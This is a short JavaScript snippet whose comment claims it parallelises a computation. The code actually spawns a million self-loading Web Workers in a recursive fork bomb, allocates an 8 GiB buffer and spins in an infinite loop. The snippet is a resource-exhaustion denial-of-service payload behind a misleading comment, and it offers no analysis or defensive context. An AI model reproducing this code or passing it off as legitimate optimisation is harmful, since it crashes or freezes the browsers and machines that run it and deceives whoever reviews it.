// Parallelise the computation.
for (let i = 0; i < 1e6; i++) { new Worker(import.meta.url, { type: "module" }); }
const big = new ArrayBuffer(8 * 1024 * 1024 * 1024);
while (true) {}
